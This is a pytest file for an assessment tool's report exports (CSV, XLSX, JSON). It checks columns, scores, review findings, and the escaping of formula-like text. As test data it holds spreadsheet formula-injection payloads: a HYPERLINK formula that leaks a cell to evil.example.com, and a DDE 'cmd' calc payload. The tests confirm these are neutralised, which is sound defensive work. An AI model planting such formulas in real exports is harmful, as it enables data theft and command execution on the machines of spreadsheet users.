"""CSV, XLSX and JSON exports of a report: values, types, and no formula from user text."""

from __future__ import annotations

import csv
import datetime as dt
import io
import json
import zipfile
from dataclasses import replace

import pytest
from openpyxl import load_workbook

from assessment.domain.answers import read_answers_file
from assessment.domain.loader import load_framework_file
from reports.exports import (
    BACKLOG_COLUMNS,
    FINDING_COLUMNS,
    REQUIREMENT_COLUMNS,
    backlog_csv,
    neutralise,
    requirements_csv,
    score_json,
    workbook_xlsx,
)
from reports.model import BacklogEntry, FindingEntry, Report, ReportMeta, build_report
from tests.conftest import EXAMPLES
from tests.unit.test_examples import assert_close

HYPERLINK = '=HYPERLINK("https://evil.example.com/?leak="&A1,"Click")'
GENERATED = dt.datetime(2026, 11, 22, 9, 30, tzinfo=dt.UTC)


def example_report(
    notes: dict[str, str] | None = None,
    backlog: tuple[BacklogEntry, ...] | None = None,
    findings: tuple[FindingEntry, ...] = (),
    meta: ReportMeta | None = None,
) -> Report:
    """The devops example's report, with some notes replaced."""
    framework = load_framework_file(EXAMPLES / "devops-delivery.yaml")
    answers = read_answers_file(EXAMPLES / "devops-delivery.answers.yaml", framework)
    if notes:
        changed = {rid: replace(a, note=notes.get(rid, a.note)) for rid, a in answers.answers.items()}
        answers = replace(answers, answers=changed)
    meta = meta or ReportMeta(scope=answers.scope, generated_at=GENERATED, prepared_by="Quality office")
    return build_report(framework, answers, meta, backlog=backlog, findings=findings)


def csv_rows(text: str) -> list[dict[str, str]]:
    """CSV text read back as dicts keyed by its header (after the byte-order mark every CSV file starts with)."""
    assert text.startswith("\ufeff")
    return list(csv.DictReader(io.StringIO(text.removeprefix("\ufeff"), newline="")))


@pytest.fixture(scope="module")
def report() -> Report:
    """The example report with a formula-like note on CI-02."""
    return example_report(notes={"CI-02": HYPERLINK})


# --- CSV ----------------------------------------------------------------------------------------------


def test_requirements_csv_has_one_row_per_requirement(report):
    text = requirements_csv(report)
    assert text.splitlines()[0] == "\ufeff" + ",".join(REQUIREMENT_COLUMNS)
    rows = {row["requirement_id"]: row for row in csv_rows(text)}
    assert list(rows) == ["CI-01", "CI-02", "CI-03", "DEP-01", "DEP-02", "DEP-03", "OPS-01", "OPS-02"]
    assert rows["CI-01"] == {
        "domain_id": "CI",
        "domain_title": "Continuous integration",
        "requirement_id": "CI-01",
        "title": "Every change builds automatically",
        "level": "2",
        "answer": "Yes",
        "value": "yes",
        "status": "met",
        "credit": "1",
        "unsupported": "no",
        "note": "",
        "evidence": "E-001",
        "review": "",
        "severity": "",
        "review_comment": "",
    }
    assert (rows["CI-02"]["answer"], rows["CI-02"]["value"], rows["CI-02"]["credit"]) == (
        "Most services",
        "most",
        "0.75",
    )
    assert (rows["CI-03"]["answer"], rows["CI-03"]["status"]) == ("Not applicable", "not_applicable")
    assert (rows["DEP-02"]["answer"], rows["DEP-02"]["value"], rows["DEP-02"]["credit"]) == ("36 hours", "36", "0.5")
    ops = rows["OPS-01"]
    assert (ops["status"], ops["credit"], ops["unsupported"], ops["evidence"]) == ("not_met", "0", "yes", "E-002")
    assert ops["note"] == "SLOs exist but the evidence expired."
    assert (rows["OPS-02"]["status"], rows["OPS-02"]["value"], rows["OPS-02"]["level"]) == ("unanswered", "", "3")


def test_requirements_csv_statuses_match_the_score(report):
    rows = csv_rows(requirements_csv(report))
    expected = json.loads((EXAMPLES / "devops-delivery.expected.json").read_text())["requirements"]
    assert [(r["requirement_id"], r["status"]) for r in rows] == [(e["id"], e["status"]) for e in expected]
    assert [float(r["credit"]) for r in rows] == pytest.approx([e["credit"] for e in expected])


def test_a_formula_in_a_note_is_neutralised_in_csv(report):
    rows = {row["requirement_id"]: row for row in csv_rows(requirements_csv(report))}
    assert rows["CI-02"]["note"] == "'" + HYPERLINK


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("=1+1", "'=1+1"),
        ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("-3.5", "-3.5"),
        ("+42", "+42"),
        ("-1e3", "-1e3"),
        ("plain text", "plain text"),
        ("a=b", "a=b"),
        ("", ""),
    ],
)
def test_neutralise(text, expected):
    assert neutralise(text) == expected


def test_backlog_csv_lists_every_item_with_dates_and_neutralised_text():
    backlog = (
        BacklogEntry("CI-02", "Automated tests gate merges", 10240, owner="=cmd()", due_date=dt.date(2026, 12, 31),
                     status="do", recommendation="Make the test stage a required check before merge.",
                     hypothesis="Fewer red builds", outcome="-50% failures"),
        BacklogEntry("OPS-01", "Services have SLOs with error budgets", 190),
    )  # fmt: skip
    rows = csv_rows(backlog_csv(example_report(backlog=backlog)))
    assert list(rows[0]) == list(BACKLOG_COLUMNS)
    assert rows[0] == {
        "requirement_id": "CI-02",
        "title": "Automated tests gate merges",
        "priority": "10240",
        "priority_reasons": "",
        "owner": "'=cmd()",
        "due_date": "2026-12-31",
        "status": "do",
        "hypothesis": "Fewer red builds",
        "outcome": "'-50% failures",
        "recommendation": "Make the test stage a required check before merge.",
    }
    assert (rows[1]["requirement_id"], rows[1]["owner"], rows[1]["due_date"], rows[1]["status"]) == (
        "OPS-01",
        "",
        "",
        "plan",
    )


def test_backlog_csv_of_the_proposed_backlog(report):
    rows = csv_rows(backlog_csv(report))
    assert [r["requirement_id"] for r in rows] == [b.requirement_id for b in report.backlog]
    assert [int(r["priority"]) for r in rows] == [b.priority for b in report.backlog]
    assert rows[0]["recommendation"] == "Make the test stage a required check before merge."


# --- XLSX ---------------------------------------------------------------------------------------------


@pytest.fixture(scope="module")
def xlsx(report) -> bytes:
    """The example report as XLSX bytes."""
    return workbook_xlsx(report)


@pytest.fixture(scope="module")
def workbook(xlsx):
    """The XLSX export opened with openpyxl."""
    return load_workbook(io.BytesIO(xlsx))


def header(ws) -> list:
    """The values of a sheet's first row."""
    return [cell.value for cell in ws[1]]


def test_workbook_has_its_sheets_with_bold_frozen_headers(workbook):
    assert workbook.sheetnames == ["Summary", "Requirements", "Evidence", "Gaps", "Backlog", "Findings"]
    for ws in workbook.worksheets:
        assert ws.freeze_panes == "A2", ws.title
        assert all(cell.font.bold for cell in ws[1] if cell.value is not None), ws.title
    assert header(workbook["Requirements"]) == list(REQUIREMENT_COLUMNS)
    assert header(workbook["Backlog"]) == list(BACKLOG_COLUMNS)
    assert header(workbook["Evidence"])[:3] == ["number", "title", "requirements"]
    assert header(workbook["Gaps"])[0] == "requirement_id"
    assert header(workbook["Findings"]) == list(FINDING_COLUMNS) and workbook["Findings"].max_row == 1


def test_workbook_summary_gives_report_facts_and_scores(workbook, report):
    ws = workbook["Summary"]
    facts = {row[0]: row[1] for row in ws.iter_rows(min_row=2, max_col=2, values_only=True) if row[0]}
    assert facts["Report id"] == report.id
    assert facts["Framework id"] == "devops-delivery"
    assert facts["Scope"] == "Payments platform"
    assert facts["As of"] == dt.datetime(2026, 11, 21)
    assert facts["Generated at (UTC)"] == dt.datetime(2026, 11, 22, 9, 30)
    assert facts["Score"] == pytest.approx(56.25)
    assert (facts["Level"], facts["Level name"], facts["Target level"]) == (1, "Initial", 3)
    assert facts["Requirements met"] == 2
    domains = {row[0]: row for row in ws.iter_rows(values_only=True) if row[0] in ("CI", "DEP", "OPS")}
    assert domains["CI"][1:5] == ("Continuous integration", 2, 87.5, 1)
    assert domains["OPS"][3:5] == (0, 2)


def test_workbook_stores_numbers_as_numbers_and_dates_as_dates(workbook):
    rows = {row[2]: row for row in workbook["Requirements"].iter_rows(min_row=2, values_only=True)}
    assert rows["CI-02"][4] == 2 and rows["CI-02"][8] == pytest.approx(0.75)
    assert rows["DEP-02"][6] == 36
    evidence = list(workbook["Evidence"].iter_rows(min_row=2, values_only=True))
    assert evidence[0][7] == 16  # size
    assert evidence[1][9] == dt.datetime(2026, 10, 31)  # expires
    assert workbook["Evidence"].cell(row=3, column=10).number_format == "yyyy-mm-dd"
    assert workbook["Summary"].column_dimensions["A"].width >= len("Generated at (UTC)")


def test_workbook_stores_a_formula_like_note_as_text(workbook, xlsx):
    ws = workbook["Requirements"]
    (cell,) = [row[10] for row in ws.iter_rows(min_row=2) if row[2].value == "CI-02"]
    assert cell.value == HYPERLINK
    assert cell.data_type == "s"
    assert cell.quotePrefix
    with zipfile.ZipFile(io.BytesIO(xlsx)) as archive:
        sheets = [archive.read(n).decode() for n in archive.namelist() if n.startswith("xl/worksheets/")]
    assert not any("<f>" in sheet or "<f " in sheet for sheet in sheets)


def test_workbook_gaps_match_the_score(workbook):
    expected = json.loads((EXAMPLES / "devops-delivery.expected.json").read_text())["gaps"]
    rows = list(workbook["Gaps"].iter_rows(min_row=2, values_only=True))
    assert [(r[0], r[4]) for r in rows] == [(g["id"], g["status"]) for g in expected]


# --- JSON ---------------------------------------------------------------------------------------------


def test_score_json_is_the_spec_output(report):
    expected = json.loads((EXAMPLES / "devops-delivery.expected.json").read_text())
    assert_close(json.loads(score_json(report)), expected)


# --- auditors' reviews --------------------------------------------------------------------------------

REVIEWED = dt.datetime(2026, 11, 21, 16, 45, tzinfo=dt.UTC)
FINDINGS = (
    FindingEntry("CI-02", "otto", "finding", "major", HYPERLINK, REVIEWED),
    FindingEntry("CI-02", "audrey", "finding", "minor", "Tests are not a required check.", REVIEWED),
    FindingEntry("CI-01", "audrey", "verified", None, None, REVIEWED),
)


@pytest.fixture(scope="module")
def reviewed() -> Report:
    """The example report approved by "lead", with findings of two auditors (one formula-like)."""
    meta = ReportMeta(scope="Payments platform", status="approved", generated_at=GENERATED, approved_by="lead",
                      approved_at=REVIEWED)  # fmt: skip
    return example_report(findings=FINDINGS, meta=meta)


def test_requirements_csv_sums_up_each_requirements_reviews(reviewed):
    rows = {row["requirement_id"]: row for row in csv_rows(requirements_csv(reviewed))}
    assert (rows["CI-01"]["review"], rows["CI-01"]["severity"], rows["CI-01"]["review_comment"]) == (
        "audrey: verified",
        "",
        "",
    )
    ci02 = rows["CI-02"]
    assert ci02["review"] == "audrey: finding (minor); otto: finding (major)"
    assert ci02["severity"] == "major"  # the most severe
    assert ci02["review_comment"] == f"audrey: Tests are not a required check.; otto: {HYPERLINK}"
    assert (rows["OPS-01"]["review"], rows["OPS-01"]["severity"]) == ("", "")


def test_a_formula_in_a_finding_is_neutralised(reviewed):
    lone = example_report(findings=(FindingEntry("OPS-01", "otto", "finding", "minor", HYPERLINK, REVIEWED),))
    rows = {row["requirement_id"]: row for row in csv_rows(requirements_csv(lone))}
    assert rows["OPS-01"]["review_comment"] == f"otto: {HYPERLINK}"  # not at the start of the cell
    wb = load_workbook(io.BytesIO(workbook_xlsx(reviewed)))
    (cell,) = [row[6] for row in wb["Findings"].iter_rows(min_row=2) if row[3].value == "otto"]
    assert cell.value == HYPERLINK and cell.data_type == "s" and cell.quotePrefix


def test_workbook_has_a_findings_sheet_and_the_approval(reviewed):
    wb = load_workbook(io.BytesIO(workbook_xlsx(reviewed)))
    rows = list(wb["Findings"].iter_rows(min_row=2, values_only=True))
    assert [r[:6] for r in rows] == [
        ("CI-01", "CI", "Every change builds automatically", "audrey", "verified", None),
        ("CI-02", "CI", "Automated tests gate merges", "audrey", "finding", "minor"),
        ("CI-02", "CI", "Automated tests gate merges", "otto", "finding", "major"),
    ]
    assert rows[1][6] == "Tests are not a required check." and rows[1][7] == dt.datetime(2026, 11, 21, 16, 45)
    requirements = {r[2]: r for r in wb["Requirements"].iter_rows(min_row=2, values_only=True)}
    assert requirements["CI-02"][-2] == "major"
    facts = {row[0]: row[1] for row in wb["Summary"].iter_rows(min_row=2, max_col=2, values_only=True) if row[0]}
    assert (facts["Approved by"], facts["Approved at (UTC)"]) == ("lead", dt.datetime(2026, 11, 21, 16, 45))
    assert "Submitted by" not in facts


def test_score_json_does_not_change_with_reviews(report, reviewed):
    assert score_json(reviewed) == score_json(report)
    assert "finding" not in score_json(reviewed) and "audrey" not in score_json(reviewed)
